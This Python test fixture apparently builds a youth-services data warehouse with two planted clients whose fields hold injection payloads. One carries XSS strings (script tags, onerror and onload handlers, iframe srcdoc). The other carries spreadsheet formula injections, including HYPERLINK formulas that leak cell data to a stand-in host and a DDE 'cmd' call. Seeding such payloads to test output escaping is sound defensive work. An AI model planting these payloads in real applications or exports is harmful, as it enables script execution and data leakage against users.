"""A warehouse whose every agency text field, and the client list, carries an attack payload.

Two planted youth are on the agenda of ``MEETING`` and in the cohort of ``QUARTER``:

- ``X1``: script payloads (``<script>``, ``"><img onerror>``, ``<svg onload>``, an iframe), one in
  every text field of the client list and of every agency's rows linked to her;
- ``F1``: spreadsheet formula payloads (``=HYPERLINK(...)``, ``=1+2``, ``=cmd|...``, ``+``, ``-``,
  ``@``, tab, carriage return) in the same fields.

A script that runs writes ``MARKER`` into the page (its source only says ``'PWN'+'ED'``, so the
marker appears in a page or a PDF only if a script ran) or opens a dialog.
"""

from __future__ import annotations

from datetime import date

from tests.warehouse_data import CLIENTS, extract, links, record
from warehouse import Warehouse

MEETING = date(2026, 11, 19)
QUARTER = "2026Q3"
MARKER = "PWNED"
WRITE_MARKER = "<script>document.body.insertAdjacentText('beforeend','PWN'+'ED')</script>"

# one payload per field, each unique, so every field can be found again as text
SCRIPT_FIELDS = {
    "first_name": "Ana<script>alert('first')</script>",
    "middle_name": "\"><img src=x onerror=\"alert('middle');document.title='PWN'+'ED'\">",
    "last_name": "Doe" + WRITE_MARKER,
    "aliases": [
        "<svg onload=alert('alias1')>",
        "'><iframe srcdoc=\"<script>parent.alert('alias2')</script>\">",
    ],
    "sex": "<script>alert('sex')</script>",
    "gender_identity": "<img src=x onerror=alert('gender')>",
    "race": "<script>alert('race')</script>",
    "city": "<script>alert('city')</script>",
    "county": "\"><script>alert('county')</script>",
    "csec_status": "<b onmouseover=alert('csec')>csec</b>",
    "risk_factors": ["<script>alert('risk')</script>", "runaway"],
    "services": ["<img src=x onerror=alert('service')>"],
    "provider": "<script>alert('provider')</script>",
    "residence_city": "<svg onload=alert('residence')>",
    "residence_state": "<script>alert('state')</script>",
    "officer": "<script>alert('officer')</script>",
    "court": "\"><img src=x onerror=alert('court')>",
    "supervision_status": "<script>alert('status')</script>",
    "probation_placement": "<svg onload=alert('placement')>",
    "facility": "Hall" + WRITE_MARKER,
    "allegation_type": "<script>alert('allegation')</script>",
    "disposition": "<img src=x onerror=alert('disposition')>",
    "welfare_placement": "<script>alert('welfare-placement')</script>",
    "school": "<script>alert('school')</script>",
    "grade": "<img src=x onerror=alert('grade')>",
    "school_year": "<script>alert('year')</script>",
    "charges": ["<script>alert('charge')</script>", "647(b) PC"],
}
FORMULA_FIELDS = {
    "first_name": "=1+2",
    "middle_name": "+SUM(1,2)",
    "last_name": "@SUM(1+1)",
    "aliases": ['=HYPERLINK("https://example.invalid/?d="&A2,"Open case file")', "-2+3"],
    "sex": "=1+3",
    "gender_identity": "+1+4",
    "race": "-2+5",
    "city": '=HYPERLINK("https://example.invalid/?c="&A2,"Open")',
    "county": "@SUM(9)",
    "csec_status": "\t=1+6",
    "risk_factors": ["=1+7", "runaway"],
    "services": ["\r=1+8"],
    "provider": "=1+18",
    "residence_city": '=HYPERLINK("https://example.invalid/?r="&A2,"Open")',
    "residence_state": "+1+19",
    "officer": '=HYPERLINK("https://example.invalid/?d="&A2,"Open case file")',
    "court": "+1+9",
    "supervision_status": "=1+10",
    "probation_placement": "-1+11",
    "facility": "=cmd|'/C calc'!A0",
    "allegation_type": "@SUM(12)",
    "disposition": "=1+13",
    "welfare_placement": "+1+14",
    "school": "=1+15",
    "grade": "-1+16",
    "school_year": "=1+17",
    "charges": ["=EXEC()", "647(b) PC"],  # no digits: the charge normaliser keeps it as typed
}


#: the client-list fields that become row labels of the quarterly report (HTML and CSV) as written;
#: risk factors, services, providers and CSEC status are counted by their vocabulary (a payload is
#: "Other"), a county is labelled "<county> County", a state "Out of state"
REPORT_FIELDS = (
    "sex",
    "gender_identity",
    "race",
    "city",
)

#: ordinary values planted beside the payloads (a charge that must still be normalised, a risk factor)
ORDINARY = {"runaway", "647(b) PC"}


def texts(fields: dict) -> list[str]:
    """Every planted payload, one string each."""
    out: list[str] = []
    for value in fields.values():
        out += value if isinstance(value, list) else [value]
    return [t for t in out if t not in ORDINARY]


def _client(cid: str, f: dict) -> dict:
    return {
        "record_id": cid,
        "first_name": f["first_name"],
        "middle_name": f["middle_name"],
        "last_name": f["last_name"],
        "aliases": "|".join(f["aliases"]),
        "dob": "2008-05-06",
        "sex": f["sex"],
        "gender_identity": f["gender_identity"],
        "race": f["race"],
        "city": f["city"],
        "county": f["county"],
        "referral_date": "2025-05-01",
        "csec_status": f["csec_status"],
        "risk_factors": "|".join(f["risk_factors"]),
        "next_meeting": MEETING.isoformat(),
    }


def _services(cid: str, f: dict) -> list[dict]:
    return [
        {"record_id": cid, "service": s, "provider": f["provider"], "start_date": "2025-05-10"}
        for s in f["services"]
    ]


def _residences(cid: str, f: dict) -> list[dict]:
    return [
        {
            "record_id": cid,
            "city": f["residence_city"],
            "county": f["county"],
            "state": f["residence_state"],
            "start_date": "2024-01-01",
            "end_date": "2025-04-01",
        },
        {
            "record_id": cid,
            "city": f["city"],
            "county": f["county"],
            "state": "CA",
            "start_date": "2025-04-01",
        },
    ]


def _person(rid: str, cid: str) -> dict:
    return {"record_id": rid, "first_name": "Planted", "last_name": cid, "dob": "2008-05-06"}


def build_payload_warehouse(url: str) -> Warehouse:
    """The warehouse described above (plus the ordinary clients C1-C3)."""
    wh = Warehouse(url)
    wh.migrate()
    planted = {"X1": SCRIPT_FIELDS, "F1": FORMULA_FIELDS}
    rows = [dict(c) for c in CLIENTS] + [_client(cid, f) for cid, f in planted.items()]
    side = {
        "client_services": [r for cid, f in planted.items() for r in _services(cid, f)],
        "client_residences": [r for cid, f in planted.items() for r in _residences(cid, f)],
    }
    ex = extract("safetynet_clients", "safetynet_clients", {"clients": rows, **side})
    wh.load_clients(record(wh, ex), ex)

    def load(source: str, kind: str, tables: dict[str, list[dict]], pairs: list[tuple[str, str]]) -> None:
        ex = extract(source, kind, tables)
        wh.load_delivery(record(wh, ex), ex, links(*[(r, c, 0.999, "match") for r, c in pairs]))

    load(
        "probation",
        "probation",
        {
            "probation_referrals": [
                dict(
                    _person(f"P-{cid}", cid),
                    referral_id=f"R-{cid}",
                    referral_date="2026-10-01",
                    supervision_status=f["supervision_status"],
                    officer=f["officer"],
                    court=f["court"],
                    placement_type=f["probation_placement"],
                    facility=f["facility"],
                    placement_start="2026-10-02",
                )
                for cid, f in planted.items()
            ]
        },
        [(f"P-{cid}", cid) for cid in planted],
    )
    load(
        "social_services",
        "social_services",
        {
            "welfare_clients": [_person(f"W-{cid}", cid) for cid in planted],
            "welfare_referrals": [
                {
                    "referral_id": f"WR-{cid}",
                    "record_id": f"W-{cid}",
                    "referral_date": "2026-10-03",
                    "allegation_type": f["allegation_type"],
                    "disposition": f["disposition"],
                }
                for cid, f in planted.items()
            ],
            "welfare_placements": [
                {
                    "episode_id": f"E-{cid}",
                    "record_id": f"W-{cid}",
                    "placement_type": f["welfare_placement"],
                    "start_date": "2026-10-04",
                }
                for cid, f in planted.items()
            ],
        },
        [(f"W-{cid}", cid) for cid in planted],
    )
    load(
        "oakland_usd",
        "school_district",
        {
            "school_enrollments": [
                dict(
                    _person(f"S-{cid}", cid),
                    school=f["school"],
                    grade=f["grade"],
                    school_year=f["school_year"],
                    enroll_start="2026-08-11",
                    days_enrolled=50,
                    days_absent=7,
                )
                for cid, f in planted.items()
            ]
        },
        [(f"S-{cid}", cid) for cid in planted],
    )
    load(
        "oakland_pd",
        "arrest_log",
        {
            "arrests": [
                dict(
                    _person(f"B-{cid}", cid),
                    arrest_datetime="2026-10-05 22:15",
                    charges="|".join(f["charges"]),
                )
                for cid, f in planted.items()
            ]
        },
        [(f"B-{cid}", cid) for cid in planted],
    )
    return wh
